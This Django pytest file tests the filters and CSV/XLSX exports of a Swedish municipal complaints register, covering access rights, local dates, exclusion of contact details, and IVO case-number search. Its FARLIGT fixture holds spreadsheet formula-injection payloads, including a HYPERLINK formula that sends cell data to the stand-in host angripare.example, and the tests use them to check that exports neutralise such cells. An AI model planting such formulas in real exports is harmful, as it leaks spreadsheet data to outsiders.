"""The list's filters and the CSV/XLSX exports: every filter narrows the list and the
exports alike, within what the user may see; dates are Swedish local dates; free text
searches the case, never the contact details; exports carry no contact details and
neutralise formula-like cells; the registrator's inbox shows new submissions only."""

import csv
import io
import re
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.utils import timezone

from synpunkter.models import Kategori, Synpunkt
from tests.factories import SynpunktFactory
from tests.synpunkter.hjalp import innehall

pytestmark = pytest.mark.django_db

NUMMER = re.compile(r'href="/synpunkter/(SYN-\d{4}-\d{4})/"')
IVO_DNR = "3.5.1-12345/2025"
IVO_SVAR = "Förvaltningen har utrett IVO-ärendet och svarat klaganden."


def lokal(*args):
    return timezone.make_aware(datetime(*args))


@pytest.fixture
def urval(org, personas):
    """Four synpunkter that differ in every filtered field.

    a: EB, klagomål by e-service from a brukare, registered, category Handläggning,
       31 Dec 2025 23:30 Swedish time, overdue; the contact is "Karin Kontaktsson".
    b: the team under EB, beröm by phone from a närstående, answered, 1 Jan 2026 00:30
       Swedish time (still 31 Dec in UTC), delegation requested.
    c: Kollektivet HVB, anonymous synpunkt by letter, new, received today.
    d: Bistånd barn och unga, förslag via IVO from an authority, closed, delegation done;
       IVO's case 3.5.1-12345/2025, sent 29 Dec, answer wanted by 26 Jan, answered 3 Jan.
    """
    handl = Kategori.objects.get(namn="Handläggning")
    bem = Kategori.objects.get(namn="Bemötande och service")
    a = SynpunktFactory(
        enhet=org["EB"],
        typ="klagomal",
        kanal="e_tjanst",
        avsandare="brukare",
        inkom=lokal(2025, 12, 31, 23, 30),
        kontakt={"namn": "Karin Kontaktsson", "epost": "karin@example.org"},
    )
    Synpunkt.objects.filter(pk=a.pk).update(
        status="registrerad", kategori=handl, diarienummer="SOCN/2025:99"
    )
    b = SynpunktFactory(
        enhet=org["TEAM"],
        typ="berom",
        kanal="telefon",
        avsandare="narstaende",
        inkom=lokal(2026, 1, 1, 0, 30),
    )
    Synpunkt.objects.filter(pk=b.pk).update(
        status="besvarad",
        besvarad=lokal(2026, 1, 5, 10, 0),
        kategori=bem,
        delegation_status="begard",
    )
    c = SynpunktFactory(
        enhet=org["KOLL"],
        typ="synpunkt",
        kanal="brev",
        avsandare="anonym",
        anonym=True,
        beskrivning="Den unika väntrumstexten.",
    )
    d = SynpunktFactory(
        enhet=org["BUV"],
        typ="forslag",
        kanal="via_ivo",
        avsandare="myndighet",
        inkom=lokal(2026, 1, 2, 12, 0),
    )
    Synpunkt.objects.filter(pk=d.pk).update(
        status="avslutad",
        svar="Vi tackar för svarsordet.",
        besvarad=lokal(2026, 1, 3),
        avslutad=lokal(2026, 1, 4),
        delegation_status="behandlad",
        ivo_diarienummer=IVO_DNR,
        ivo_skickad=date(2025, 12, 29),
        ivo_svar_senast=date(2026, 1, 26),
        ivo_svar=IVO_SVAR,
        ivo_besvarad=date(2026, 1, 3),
    )
    for s in (a, b, c, d):
        s.refresh_from_db()
    return {"a": a, "b": b, "c": c, "d": d, "org": org, "handl": handl}


def lista(klient, params):
    response = klient.get("/synpunkter/", params)
    assert response.status_code == 200
    return set(NUMMER.findall(response.content.decode()))


def csv_rader(klient, params=None):
    response = klient.get("/synpunkter/export.csv", params or {})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(innehall(response)), delimiter=";"))


def xlsx_blad(klient, params=None):
    response = klient.get("/synpunkter/export.xlsx", params or {})
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


# (id, params (a function of the fixture), the keys of the synpunkter expected)
FILTER = [
    ("inga", lambda u: {}, "abcd"),
    ("status", lambda u: {"status": "registrerad"}, "a"),
    ("typ", lambda u: {"typ": "berom"}, "b"),
    ("kanal", lambda u: {"kanal": "via_ivo"}, "d"),
    ("avsandare", lambda u: {"avsandare": "anonym"}, "c"),
    ("enhet-med-team", lambda u: {"enhet": u["org"]["EB"].pk}, "ab"),
    ("avdelning", lambda u: {"enhet": u["org"]["MYN"].pk}, "abd"),
    ("kategori", lambda u: {"kategori": u["handl"].pk}, "a"),
    ("delegation-begard", lambda u: {"delegation": "begard"}, "b"),
    ("delegation-behandlad", lambda u: {"delegation": "behandlad"}, "d"),
    ("forsenade", lambda u: {"forsenade": "on"}, "a"),
    # 1 Jan 00:30 in Stockholm is 31 Dec in UTC: the day is the Swedish one.
    ("till-nyarsafton", lambda u: {"till": "2025-12-31"}, "a"),
    ("nyarsdagen", lambda u: {"fran": "2026-01-01", "till": "2026-01-01"}, "b"),
    ("fran-nyarsdagen", lambda u: {"fran": "2026-01-01"}, "bcd"),
    ("fritext-beskrivning", lambda u: {"q": "den UNIKA"}, "c"),
    ("fritext-diarienummer", lambda u: {"q": "socn/2025:99"}, "a"),
    # The municipality's diarienummer as it is written, and IVO's case number however
    # it is typed (with or without "IVO", any case, spaces around): exactly, not a part.
    ("fritext-diarienummer-som-skrivet", lambda u: {"q": "SOCN/2025:99"}, "a"),
    ("fritext-ivo-dnr", lambda u: {"q": IVO_DNR}, "d"),
    ("fritext-ivo-dnr-med-ivo", lambda u: {"q": f"IVO {IVO_DNR}"}, "d"),
    ("fritext-ivo-dnr-gemener", lambda u: {"q": f"  ivo {IVO_DNR} "}, "d"),
    ("fritext-ivo-dnr-utan-ar", lambda u: {"q": "3.5.1-12345"}, ""),
    ("fritext-ivo-dnr-annat-ar", lambda u: {"q": "3.5.1-12345/2026"}, ""),
    # "IVO" alone is no case number: not every synpunkt without one.
    ("fritext-bara-ivo", lambda u: {"q": "IVO"}, ""),
    ("fritext-nummer", lambda u: {"q": u["d"].nummer}, "d"),
    ("fritext-svar", lambda u: {"q": "svarsordet"}, "d"),
    # The contact details are not searchable.
    ("fritext-kontakt", lambda u: {"q": "Kontaktsson"}, ""),
    ("fritext-epost", lambda u: {"q": "karin@example.org"}, ""),
    ("kombinerat", lambda u: {"enhet": u["org"]["MYN"].pk, "typ": "klagomal"}, "a"),
    # The outermost dates a filter accepts (kvalitet.lib.datum).
    ("fran-1900", lambda u: {"fran": "1900-01-01"}, "abcd"),
    ("till-2100", lambda u: {"till": "2100-12-31"}, "abcd"),
]


@pytest.mark.parametrize(("params", "vantat"), [pytest.param(*f[1:], id=f[0]) for f in FILTER])
def test_filter_i_lista_och_exporter(params, vantat, urval, klient_for):
    klient = klient_for("registrator")
    p = params(urval)
    forvantat = {urval[k].nummer for k in vantat}
    assert lista(klient, p) == forvantat
    assert {r[0] for r in csv_rader(klient, p)[1:]} == forvantat
    blad = xlsx_blad(klient, p)
    assert {r[0] for r in blad.iter_rows(min_row=2, values_only=True)} == forvantat


@pytest.mark.parametrize(
    ("persona", "params", "vantat"),
    [
        ("enhetschef", {}, "ab"),
        ("enhetschef", {"typ": "synpunkt"}, ""),
        ("avdelningschef", {}, "abd"),
        ("enhetschef_annan", {}, "c"),
        ("kvalitetssamordnare", {"kanal": "brev"}, "c"),
        # IVO's case number finds the case only for those who see it.
        ("avdelningschef", {"q": f"IVO {IVO_DNR}"}, "d"),
        ("enhetschef", {"q": f"IVO {IVO_DNR}"}, ""),
        ("enhetschef_annan", {"q": f"IVO {IVO_DNR}"}, ""),
        ("medarbetare", {}, ""),
        ("admin", {}, ""),  # the nämnd gets no list at all (test_behorighet.py)
    ],
)
def test_filter_inom_behorigheten(persona, params, vantat, urval, klient_for):
    params = {k: urval["org"][v].pk if k == "enhet" else v for k, v in params.items()}
    klient = klient_for(persona)
    forvantat = {urval[k].nummer for k in vantat}
    assert lista(klient, params) == forvantat
    assert {r[0] for r in csv_rader(klient, params)[1:]} == forvantat
    blad = xlsx_blad(klient, params)
    assert {r[0] for r in blad.iter_rows(min_row=2, values_only=True)} == forvantat


DATUMGRANS = "Ange ett datum mellan 1900-01-01 och 2100-12-31."
OGILTIGT_VAL = "Välj ett giltigt alternativ."

# (id, persona, params (a function of the fixture), the message)
OGILTIGA_FILTER = [
    ("ogiltigt-varde", "registrator", lambda u: {"status": "hackad"}, OGILTIGT_VAL),
    ("ogiltigt-datum", "registrator", lambda u: {"fran": "igår"}, "Fyll i ett giltigt datum."),
    # Another unit is not even a valid choice in the enhetschef's unit filter.
    ("annan-enhet", "enhetschef", lambda u: {"enhet": u["org"]["KOLL"].pk}, OGILTIGT_VAL),
    # Security finding 4 (issue 10): these overflowed the date arithmetic (500).
    ("fran-ar-1", "registrator", lambda u: {"fran": "0001-01-01"}, DATUMGRANS),
    ("fran-1899", "registrator", lambda u: {"fran": "1899-12-31"}, DATUMGRANS),
    ("fran-ar-9999", "registrator", lambda u: {"fran": "9999-12-31"}, DATUMGRANS),
    ("till-ar-1", "registrator", lambda u: {"till": "0001-01-01"}, DATUMGRANS),
    ("till-ar-9999", "registrator", lambda u: {"till": "9999-12-31"}, DATUMGRANS),
    ("till-2101", "registrator", lambda u: {"till": "2101-01-01"}, DATUMGRANS),
]


@pytest.mark.parametrize(
    ("persona", "params", "meddelande"), [pytest.param(*f[1:], id=f[0]) for f in OGILTIGA_FILTER]
)
def test_ogiltigt_filter_ger_meddelande_och_ingen_export(
    persona, params, meddelande, urval, klient_for
):
    """An invalid filter shows its message and no synpunkter, and an export with it is
    refused with the message (400) rather than sent as a file of headings only."""
    klient = klient_for(persona)
    p = params(urval)
    response = klient.get("/synpunkter/", p)
    assert response.status_code == 200
    sida = response.content.decode()
    assert "Filtret innehåller fel" in sida and meddelande in sida
    assert NUMMER.findall(sida) == []
    for format in ("csv", "xlsx"):
        export = klient.get(f"/synpunkter/export.{format}", p)
        assert export.status_code == 400, format
        assert "Content-Disposition" not in export
        text = export.content.decode()
        assert "Exporten gjordes inte" in text and meddelande in text, text
    # Htmx swaps only the results: they carry the message too.
    delen = klient.get("/synpunkter/", p, headers={"HX-Request": "true", "HX-Target": "resultat"})
    assert meddelande in delen.content.decode()


def test_exportens_kolumner_och_lokal_tid(urval, klient_for):
    klient = klient_for("registrator")
    rader = csv_rader(klient, {"q": urval["a"].nummer})
    rubriker = rader[0]
    assert rubriker == [
        "Ärendenummer", "Diarienummer", "Typ", "Kanal", "Avsändare", "Status", "Enhet",
        "Kategori", "Inkom", "Tidsfrist", "Besvarad", "Svaret lämnades", "Vad gäller det",
        "Brustit", "Ledde till förbättring", "IVO:s diarienummer", "IVO skickade",
        "IVO vill ha svar senast", "IVO besvarad", "Klagomålsdelegationen", "Avslutad",
    ]  # fmt: skip
    rad = dict(zip(rubriker, rader[1], strict=True))
    assert rad["Inkom"] == "2025-12-31 23:30"
    assert rad["Tidsfrist"] == "2026-01-14"
    assert (rad["Typ"], rad["Kanal"], rad["Avsändare"]) == (
        "Klagomål",
        "E-tjänst",
        "Brukare/klient",
    )
    assert rad["Enhet"] == "Ekonomiskt bistånd"
    blad = xlsx_blad(klient, {"q": urval["a"].nummer})
    xrad = dict(zip([c.value for c in blad[1]], [c.value for c in blad[2]], strict=True))
    assert xrad["Inkom"] == datetime(2025, 12, 31, 23, 30)
    assert blad.max_row == 2


def test_exporterna_har_inga_kontaktuppgifter(urval, klient_for):
    klient = klient_for("registrator")
    csv_text = innehall(klient.get("/synpunkter/export.csv"))
    blad = xlsx_blad(klient)
    xlsx_text = " ".join(str(c) for r in blad.iter_rows(values_only=True) for c in r)
    for hemligt in ("Karin", "Kontaktsson", "karin@example.org", urval["a"].referens):
        assert hemligt not in csv_text and hemligt not in xlsx_text, hemligt


FARLIGT = {
    "beskrivning": '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
    "diarienummer": "+SUM(1;2)",
}


@pytest.fixture
def farligt_fall(org):
    kategori = Kategori.objects.create(namn="@SUMMA(A1) kategori")
    s = SynpunktFactory(enhet=org["EB"], beskrivning=FARLIGT["beskrivning"])
    Synpunkt.objects.filter(pk=s.pk).update(diarienummer=FARLIGT["diarienummer"], kategori=kategori)
    return s


def test_csv_neutraliserar_formler(farligt_fall, klient_for):
    rader = csv_rader(klient_for("registrator"))
    rad = dict(zip(rader[0], rader[1], strict=True))
    assert rad["Vad gäller det"] == "'" + FARLIGT["beskrivning"]
    assert rad["Diarienummer"] == "'" + FARLIGT["diarienummer"]
    assert rad["Kategori"] == "'@SUMMA(A1) kategori"
    for cell in rader[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_skriver_formler_som_text(farligt_fall, klient_for):
    blad = xlsx_blad(klient_for("registrator"))
    celler = dict(zip([c.value for c in blad[1]], list(blad[2]), strict=True))
    for rubrik, varde in [
        ("Vad gäller det", FARLIGT["beskrivning"]),
        ("Diarienummer", FARLIGT["diarienummer"]),
        ("Kategori", "@SUMMA(A1) kategori"),
    ]:
        assert celler[rubrik].data_type == "s", rubrik
        assert celler[rubrik].value == varde, rubrik
    assert all(c.data_type != "f" for c in blad[2])


def test_inkorgen_visar_bara_nya(urval, klient_for):
    klient = klient_for("registrator")
    sida = klient.get("/synpunkter/inkorg/")
    assert set(NUMMER.findall(sida.content.decode())) == {urval["c"].nummer}
    # The status cannot be overridden from the address.
    sida = klient.get("/synpunkter/inkorg/", {"status": "avslutad"})
    assert set(NUMMER.findall(sida.content.decode())) == {urval["c"].nummer}


def test_forsenade_foljer_dagens_datum(urval, klient_for):
    """A registered one whose deadline is today is not overdue; tomorrow it is."""
    c = urval["c"]
    Synpunkt.objects.filter(pk=c.pk).update(status="registrerad", tidsfrist=timezone.localdate())
    klient = klient_for("registrator")
    assert lista(klient, {"forsenade": "on"}) == {urval["a"].nummer}
    Synpunkt.objects.filter(pk=c.pk).update(tidsfrist=timezone.localdate() - timedelta(days=1))
    assert lista(klient, {"forsenade": "on"}) == {urval["a"].nummer, c.nummer}


# --- The citizen's reference number finds the case (issue 10) ------------------------


def _skrivsatt(referens):
    """The ways a reference number is typed or read out over the phone."""
    kod = referens.replace("-", "")
    return [referens, referens.lower(), kod, f" {kod[:4]} {kod[4:]} ".lower()]


def test_referensnumret_hittas_i_sidhuvudets_sok(syn, klient_for):
    """The answer e-mail asks the citizen to quote the reference number: the header
    search finds the synpunkt by it, however it is typed, for whoever may see it."""
    for skrivet in _skrivsatt(syn.syn.referens):
        response = klient_for("enhetschef").get("/sok/", {"nummer": skrivet})
        assert response.headers["Location"] == syn.syn.get_absolute_url(), skrivet
    # Not for someone who may not see it: the same answer as for no such number.
    response = klient_for("enhetschef_annan").get("/sok/", {"nummer": syn.syn.referens})
    assert response.headers["Location"] == "/"


def test_referensnumret_hittas_i_listans_sok(syn, klient_for):
    klient = klient_for("registrator")
    for skrivet in _skrivsatt(syn.syn.referens):
        html = klient.get("/synpunkter/", {"q": skrivet}).content.decode()
        assert set(NUMMER.findall(html)) == {syn.syn.nummer}, skrivet
    html = klient_for("enhetschef_annan").get("/synpunkter/", {"q": syn.syn.referens})
    assert NUMMER.findall(html.content.decode()) == []


# --- A klagomål forwarded by IVO: its IVO fields in the exports, its case number found ----

IVO_KOLUMNER = ("IVO:s diarienummer", "IVO skickade", "IVO vill ha svar senast", "IVO besvarad")


def test_exporterna_har_ivos_uppgifter_men_inte_svaret_till_ivo(urval, klient_for):
    """IVO's case number and dates, as on the case page, in both formats (a date as a
    date in XLSX); empty for a synpunkt that did not come via IVO. The answer to IVO is a
    text written in the handling, like the answer to the complainant: not exported."""
    klient = klient_for("registrator")
    rader = csv_rader(klient)
    per_nummer = {r[0]: dict(zip(rader[0], r, strict=True)) for r in rader[1:]}
    d, a = per_nummer[urval["d"].nummer], per_nummer[urval["a"].nummer]
    assert [d[k] for k in IVO_KOLUMNER] == [IVO_DNR, "2025-12-29", "2026-01-26", "2026-01-03"]
    assert [a[k] for k in IVO_KOLUMNER] == ["", "", "", ""]
    blad = xlsx_blad(klient)
    rubriker = [c.value for c in blad[1]]
    xrader = {
        r[0]: dict(zip(rubriker, r, strict=True))
        for r in blad.iter_rows(min_row=2, values_only=True)
    }
    xd, xa = xrader[urval["d"].nummer], xrader[urval["a"].nummer]
    assert [xd[k] for k in IVO_KOLUMNER] == [
        IVO_DNR,
        datetime(2025, 12, 29),
        datetime(2026, 1, 26),
        datetime(2026, 1, 3),
    ]
    assert [xa[k] for k in IVO_KOLUMNER] == [None, None, None, None]
    csv_text = innehall(klient.get("/synpunkter/export.csv"))
    xlsx_text = " ".join(str(c) for r in blad.iter_rows(values_only=True) for c in r)
    assert IVO_SVAR not in csv_text and IVO_SVAR not in xlsx_text
    assert "Svar till IVO" not in rubriker


@pytest.mark.postgres
def test_bakgrundsexportens_copy_har_ivos_uppgifter(urval, personas, monkeypatch):
    """A large CSV export runs as a job, by PostgreSQL's COPY: the same bytes as the
    Python path, IVO's fields included (a formula-like case number guarded in both)."""
    from django.db import connection

    from kvalitet import exporter
    from kvalitet.export import csv_text
    from kvalitet.models import Export, Exportstatus
    from synpunkter.views import ListaView
    from tests.hjalp import kraver

    kraver(connection.vendor == "postgresql", "COPY-vägen kräver PostgreSQL")
    Synpunkt.objects.filter(pk=urval["c"].pk).update(
        kanal="via_ivo", ivo_diarienummer="-3.5.1-1/2025", ivo_skickad=date(2026, 3, 29)
    )
    anrop = []
    original = exporter.kopiera_csv

    def spion(*args, **kwargs):
        anrop.append(1)
        return original(*args, **kwargs)

    monkeypatch.setattr(exporter, "kopiera_csv", spion)
    user = personas["registrator"]
    jobb = Export.objects.create(
        anvandare=user,
        lista=f"{ListaView.__module__}.{ListaView.__qualname__}",
        rubrik="Synpunkter",
        format="csv",
        filnamn="synpunkter.csv",
    )
    assert exporter.kor(jobb.pk) == Exportstatus.KLAR
    assert anrop == [1]
    jobb.refresh_from_db()
    fil = jobb.sokvag.read_bytes()
    vy = ListaView()
    vy.setup(_request(user))
    assert fil == "".join(csv_text(vy.filterset().qs, vy.exportkolumner())).encode()
    rader = list(csv.reader(io.StringIO(fil.decode("utf-8-sig")), delimiter=";"))
    per_nummer = {r[0]: dict(zip(rader[0], r, strict=True)) for r in rader[1:]}
    d, c = per_nummer[urval["d"].nummer], per_nummer[urval["c"].nummer]
    assert [d[k] for k in IVO_KOLUMNER] == [IVO_DNR, "2025-12-29", "2026-01-26", "2026-01-03"]
    assert [c[k] for k in IVO_KOLUMNER] == ["'-3.5.1-1/2025", "2026-03-29", "", ""]
    assert IVO_SVAR.encode() not in fil


def _request(user):
    from django.test import RequestFactory

    request = RequestFactory().get("/")
    request.user = user
    return request


def via_ivo(org, dnr, dagar_sedan=10, enhet="EB", **falt):
    """A klagomål forwarded by IVO with IVO's case number as it was typed."""
    return SynpunktFactory(
        enhet=org[enhet],
        kanal="via_ivo",
        ivo_diarienummer=dnr,
        ivo_skickad=timezone.localdate() - timedelta(days=dagar_sedan + 2),
        inkom=timezone.now() - timedelta(days=dagar_sedan),
        **falt,
    )


def ordnade(klient, q):
    """The synpunkter of the list's search for `q`, in the list's order."""
    response = klient.get("/synpunkter/", {"q": q})
    assert response.status_code == 200
    return list(dict.fromkeys(NUMMER.findall(response.content.decode())))


def test_ivos_diarienummer_hittas_hur_det_an_skrivits(org, personas, klient_for):
    """Stored with or without "IVO" (as staff typed it from IVO's letter), found with or
    without it, in any case and spacing; a longer number with the same beginning is
    another case."""
    med_ivo = via_ivo(org, "IVO 3.5.1-111/2025")
    utan_ivo = via_ivo(org, "3.5.1-222/2025")
    langre = via_ivo(org, "3.5.1-1111/2025")
    SynpunktFactory(enhet=org["EB"])  # not via IVO: no case number to find
    klient = klient_for("registrator")
    for q in ("IVO 3.5.1-111/2025", "3.5.1-111/2025", "ivo3.5.1-111/2025", " Ivo  3.5.1-111/2025"):
        assert ordnade(klient, q) == [med_ivo.nummer], q
    for q in ("IVO 3.5.1-222/2025", "3.5.1-222/2025", "ivo 3.5.1-222/2025"):
        assert ordnade(klient, q) == [utan_ivo.nummer], q
    assert ordnade(klient, "3.5.1-1111/2025") == [langre.nummer]
    assert ordnade(klient, "3.5.1-11/2025") == []


def test_ivos_diarienummer_forst_fore_texttraffar(org, personas, klient_for):
    """IVO's case number is an identifier: its case comes first, before a newer case
    that only mentions the number in its text."""
    arendet = via_ivo(org, "3.5.1-777/2025", dagar_sedan=30)
    namner = SynpunktFactory(
        enhet=org["EB"], beskrivning="Gäller samma sak som IVO 3.5.1-777/2025 hos er."
    )
    assert ordnade(klient_for("registrator"), "IVO 3.5.1-777/2025") == [
        arendet.nummer,
        namner.nummer,
    ]


def test_ivos_diarienummer_hittas_i_sidhuvudets_sok(urval, klient_for):
    """The header's search finds the case by IVO's number as by its other identifiers,
    for whoever may see it."""
    d = urval["d"]
    for skrivet in (f"IVO {IVO_DNR}", IVO_DNR):
        response = klient_for("avdelningschef").get("/sok/", {"nummer": skrivet})
        assert response.headers["Location"] == d.get_absolute_url(), skrivet
    response = klient_for("enhetschef_annan").get("/sok/", {"nummer": f"IVO {IVO_DNR}"})
    assert response.headers["Location"] == "/"


@pytest.mark.postgres
def test_ivos_diarienummer_soks_i_ett_index(org, personas):
    """At ten million synpunkter a search for IVO's case number must not read the table:
    with sequential scans made expensive, the list's search condition and the header's
    are answered from indexes only, IVO's number from its own. The index is not partial:
    PostgreSQL keeps no statistics of a partial index's expression, and with its guess
    the header's search walked every synpunkt by date (1 s at two million)."""
    from django.db import connection

    from synpunkter.filters import SynpunktFilter
    from tests.hjalp import kraver

    kraver(connection.vendor == "postgresql", "planen gäller PostgreSQL")
    via_ivo(org, IVO_DNR)
    user = personas["kvalitetssamordnare"]
    filtret = SynpunktFilter(
        {"q": f"IVO {IVO_DNR}"}, queryset=Synpunkt.objects.for_user(user), user=user
    )
    sidhuvudet = Synpunkt.objects.for_user(user).filter(
        Synpunkt.sokvillkor(f"IVO {IVO_DNR}", user=user)
    )
    with connection.cursor() as c:
        c.execute("SET LOCAL enable_seqscan = off")
        for qs in (filtret.qs, sidhuvudet):
            sql, params = qs.order_by().values("pk").query.sql_with_params()
            c.execute("EXPLAIN " + sql, params)
            plan = "\n".join(r[0] for r in c.fetchall())
            assert "synpunkt_ivo_dnr_idx" in plan, plan
            assert "Seq Scan" not in plan, plan
        c.execute("SELECT indexdef FROM pg_indexes WHERE indexname = 'synpunkt_ivo_dnr_idx'")
        (indexdef,) = c.fetchone()
    assert " WHERE " not in indexdef, indexdef
